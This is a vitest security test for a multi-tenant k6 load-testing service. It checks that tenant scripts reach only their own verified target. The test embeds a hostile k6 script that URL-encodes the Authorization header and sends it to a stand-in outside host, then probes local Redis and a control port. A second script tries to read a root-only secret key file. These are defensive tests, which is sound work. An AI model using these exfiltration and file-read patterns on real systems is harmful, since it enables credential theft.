import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type http from 'node:http';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { VERIFICATION_PATH, type PlanView, type RunView, type TargetView } from '@loadline/shared';
import { startLoopbackServer, type LoopbackServer } from '@loadline/shared/testing';
import { startStack, TEST_REDIS_URL, type TestStack } from '../test/stack.js';
import type { ApiClient } from '../test/api-client.js';

/**
 * A tenant's custom script tries what an attacker would, with real k6 through the API and a
 * real runner: 127.0.0.2 is the tenant's own (verified) service, 127.0.0.3 stands for any
 * other host. The script may load its target and nothing else, and gets the target's secrets
 * only once the host is verified.
 */
describe('tenant code reaches only its own target', () => {
  let stack: TestStack;
  let client: ApiClient;
  let target: LoopbackServer;
  let other: LoopbackServer;
  let published = '';
  const authorizations: string[] = [];
  const redis = new URL(TEST_REDIS_URL);

  const SCRIPT = `import http from 'k6/http';
export const options = { vus: 1, iterations: 3 };
const headers = JSON.parse(__ENV.LOADLINE_HEADERS || '{}');
const steal = encodeURIComponent(headers.Authorization || 'none');
export default function () {
  http.get(__ENV.LOADLINE_BASE_URL + '/ok', { headers, tags: { name: 'Own' } });
  http.get('OTHER/collect?h=' + steal, { tags: { name: 'Other host' } });
  http.get('http://127.0.0.1:${redis.port || 6379}/', { tags: { name: 'Redis' } });
  http.get('http://127.77.0.1:6565/v1/status', { tags: { name: 'Control port' } });
}
`;

  beforeAll(async () => {
    stack = await startStack({ label: 'tenantcode' });
    client = (await stack.api.signup('tenantcode')).client;
    target = await startLoopbackServer((req: http.IncomingMessage) => {
      if (req.url === VERIFICATION_PATH) return { status: 200, delayMs: 0, body: published };
      if (req.headers.authorization) authorizations.push(req.headers.authorization);
      return { status: 200, delayMs: 0 };
    }, '127.0.0.2');
    other = await startLoopbackServer(() => ({ status: 200, delayMs: 0 }), '127.0.0.3');
  });
  afterAll(async () => {
    await target?.close();
    await other?.close();
    await stack?.close();
  });

  const byName = (run: RunView) => Object.fromEntries(run.summary!.requests.map((request) => [request.name, request]));

  it('connects nowhere but the target, and hands the secrets to a custom script only once the target is verified', async () => {
    const created = (await client.post<TargetView>('/targets', { name: 'own', baseUrl: target.url, headers: { Authorization: 'Bearer tenant-secret-81' } }))
      .body;
    const plan = await client.post<PlanView>('/plans', { name: 'attacker', targetId: created.id, script: { source: SCRIPT.replace('OTHER', other.url) } });
    expect(plan.status, JSON.stringify(plan.body)).toBe(201);

    const unverified = await client.waitForRun((await client.post<{ run: RunView }>(`/plans/${plan.body.id}/runs`)).body.run.id, 60_000);
    const first = byName(unverified);
    expect(first['Own']).toMatchObject({ count: 3, errors: 0 });
    expect(target.counts.get('GET /ok')).toBe(3);
    // Not verified: the script ran without the target's secrets.
    expect(authorizations).toEqual([]);
    for (const name of ['Other host', 'Redis', 'Control port']) {
      expect(first[name]).toMatchObject({ count: 3, errors: 3 });
      expect(first[name]!.errorCodes).toEqual({ '1110': 3 });
    }
    expect(other.total()).toBe(0);

    published = `${created.verification.value}\n`;
    expect((await client.post(`/targets/${created.id}/verify`, { method: 'http' })).status).toBe(200);
    const verified = await client.waitForRun((await client.post<{ run: RunView }>(`/plans/${plan.body.id}/runs`)).body.run.id, 60_000);
    // Verified: the target's own header reaches the target, and still nothing else is reached.
    expect(authorizations).toEqual(['Bearer tenant-secret-81', 'Bearer tenant-secret-81', 'Bearer tenant-secret-81']);
    expect(byName(verified)['Other host']!.errorCodes).toEqual({ '1110': 3 });
    expect(other.total()).toBe(0);
    console.log(`own target: ${target.counts.get('GET /ok')} requests; other host: ${other.total()}; Redis and control port: blocked (k6 1110) x3 each run`);
  });

  it("answers a script check with the script's own error, never a file of the runner's machine", async () => {
    // Like the installation's secret key: root's, mode 600, beside the code.
    const dir = await mkdtemp(path.join(os.tmpdir(), 'loadline-host-'));
    const token = randomBytes(12).toString('hex');
    await writeFile(path.join(dir, 'secret-key'), token, { mode: 0o600 });
    try {
      const check = await client.post('/plans/check-script', {
        source: `const key = open(${JSON.stringify(path.join(dir, 'secret-key'))});\nthrow new Error(key);\nexport default function () {}\n`,
      });
      expect(check.status).toBe(200);
      expect(check.body).toMatchObject({ ok: false, line: 1, message: expect.stringContaining('no such file or directory') });
      expect(JSON.stringify(check.body)).not.toContain(token);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
